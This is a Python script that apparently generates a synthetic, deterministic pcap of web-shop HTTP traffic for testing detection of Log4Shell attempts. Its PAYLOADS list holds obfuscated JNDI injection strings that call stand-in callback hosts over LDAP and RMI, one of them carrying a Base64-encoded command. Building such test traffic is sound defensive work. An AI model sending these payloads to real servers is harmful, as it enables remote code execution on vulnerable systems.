#!/usr/bin/env python3
"""Writes a large Ethernet/IPv4 pcap of HTTP/1.1 traffic with Log4Shell attempts mixed in.

usage: gen_pcap.py OUT.pcap [SIZE_MB=300] [ATTACK_EVERY=5000]

Each connection: SYN, SYN-ACK, ACK, 1-4 keep-alive requests (browser-like headers, some POST
bodies), responses of 0.5-24 KiB in 1460-byte segments, FIN/FIN. Every ATTACK_EVERY-th request
carries an obfuscated ${jndi:...} payload in a header, the query or the body; one in four of
those is followed by the server's LDAP bind+search to the callback (an incident).
Deterministic (fixed seed), so runs are comparable.
"""
import random
import struct
import sys

out_path = sys.argv[1]
size_mb = int(sys.argv[2]) if len(sys.argv) > 2 else 300
attack_every = int(sys.argv[3]) if len(sys.argv) > 3 else 5000
rnd = random.Random(44228)

PAYLOADS = [
    "${jndi:ldap://%s:1389/a}",
    "${${lower:j}ndi:${lower:l}dap://%s:1389/x}",
    "${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://%s:1099/o}",
    "${jndi:${lower:l}${lower:d}a${lower:p}://%s/Basic/Command/Base64/dG91Y2ggL3RtcC9wd25lZA==}",
    "%%24%%7Bjndi%%3Aldap%%3A%%2F%%2F%s%%3A1389%%2Fq%%7D",
]
UAS = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/96.0.4664.93 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10.15; rv:95.0) Gecko/20100101 Firefox/95.0",
    "curl/7.74.0",
    "python-requests/2.25.1",
]
PATHS = ["/", "/index.html", "/api/v1/orders?id=%d", "/static/app.%d.js", "/login", "/search?q=shoes+size+%d"]

f = open(out_path, "wb")
f.write(struct.pack("<IHHiIII", 0xA1B2C3D4, 2, 4, 0, 0, 65535, 1))
written = 24
t = 1639000000.0
MAC = b"\x02\x00\x00\x00\x00\x01\x02\x00\x00\x00\x00\x02\x08\x00"


def ip4(a):
    return bytes(int(x) for x in a.split("."))


def packet(src, sport, dst, dport, seq, ack, flags, payload=b""):
    global written, t
    tcp = struct.pack("!HHIIBBHHH", sport, dport, seq & 0xFFFFFFFF, ack & 0xFFFFFFFF, 0x50, flags, 65535, 0, 0)
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp) + len(payload), 0, 0x4000, 64, 6, 0, src, dst)
    frame = MAC + ip + tcp + payload
    t += 0.00002
    sec = int(t)
    f.write(struct.pack("<IIII", sec, int((t - sec) * 1e6), len(frame), len(frame)))
    f.write(frame)
    written += 16 + len(frame)


def send(src, sport, dst, dport, seq, ack, data):
    for i in range(0, len(data), 1460):
        packet(src, sport, dst, dport, seq + i, ack, 0x18, data[i:i + 1460])
    return seq + len(data)


server = ip4("10.0.0.10")
body_cache = {n: (b"<html>" + bytes(rnd.choice(b"abcdefghijklmnopqrstuvwxyz <>/\n") for _ in range(n)) + b"</html>")
              for n in (512, 2048, 8192, 24576)}
requests = attacks = incidents = 0
conn = 0
while written < size_mb * 1024 * 1024:
    conn += 1
    client = ip4("198.51.%d.%d" % (conn // 250 % 250, conn % 250 + 1))
    cport = 1024 + conn % 60000
    cseq, sseq = rnd.randrange(1 << 32), rnd.randrange(1 << 32)
    packet(client, cport, server, 80, cseq, 0, 0x02)
    packet(server, 80, client, cport, sseq, cseq + 1, 0x12)
    cseq += 1
    sseq += 1
    packet(client, cport, server, 80, cseq, sseq, 0x10)
    for _ in range(rnd.randint(1, 4)):
        requests += 1
        path = rnd.choice(PATHS)
        path = path % rnd.randrange(1000) if "%d" in path else path
        ua = rnd.choice(UAS)
        extra = ""
        body = b""
        attack = requests % attack_every == 0
        if attack:
            attacks += 1
            cb = "203.0.113.%d" % (attacks % 200 + 1)
            p = rnd.choice(PAYLOADS) % cb
            where = attacks % 3
            if where == 0:
                ua = p
            elif where == 1:
                path = "/search?q=" + p.replace(" ", "%20")
            else:
                body = ("user=" + p + "&password=x").encode()
        method = "POST" if body or rnd.random() < 0.1 else "GET"
        if method == "POST" and not body:
            body = b"user=alice&password=correct+horse+battery+staple&remember=1"
        head = (f"{method} {path} HTTP/1.1\r\nHost: shop.example.com\r\nUser-Agent: {ua}\r\n"
                "Accept: text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8\r\n"
                "Accept-Language: en-US,en;q=0.5\r\nAccept-Encoding: gzip, deflate\r\n"
                f"Cookie: session={rnd.randrange(1 << 60):x}; theme=dark\r\nConnection: keep-alive\r\n")
        if body:
            head += f"Content-Type: application/x-www-form-urlencoded\r\nContent-Length: {len(body)}\r\n"
        cseq = send(client, cport, server, 80, cseq, sseq, head.encode() + b"\r\n" + body)
        resp_body = body_cache[rnd.choice((512, 2048, 8192, 24576))]
        resp = (b"HTTP/1.1 200 OK\r\nContent-Type: text/html; charset=utf-8\r\nContent-Length: %d\r\n\r\n" % len(resp_body)
                + resp_body)
        sseq = send(server, 80, client, cport, sseq, cseq, resp)
        if attack and attacks % 4 == 0 and "ldap" in p and "1389" in p:
            incidents += 1
            lport = 40000 + attacks % 20000
            lseq, rseq = rnd.randrange(1 << 32), rnd.randrange(1 << 32)
            cbip = ip4(cb)
            packet(server, lport, cbip, 1389, lseq, 0, 0x02)
            packet(cbip, 1389, server, lport, rseq, lseq + 1, 0x12)
            lseq = send(server, lport, cbip, 1389, lseq + 1, rseq + 1,
                        bytes.fromhex("300c020101600702010304008000"))
    packet(client, cport, server, 80, cseq, sseq, 0x11)
    packet(server, 80, client, cport, sseq, cseq + 1, 0x11)
f.close()
print(f"{out_path}: {written / 1048576:.0f} MiB, {conn} connections, {requests} requests, "
      f"{attacks} attempts, {incidents} LDAP callbacks")
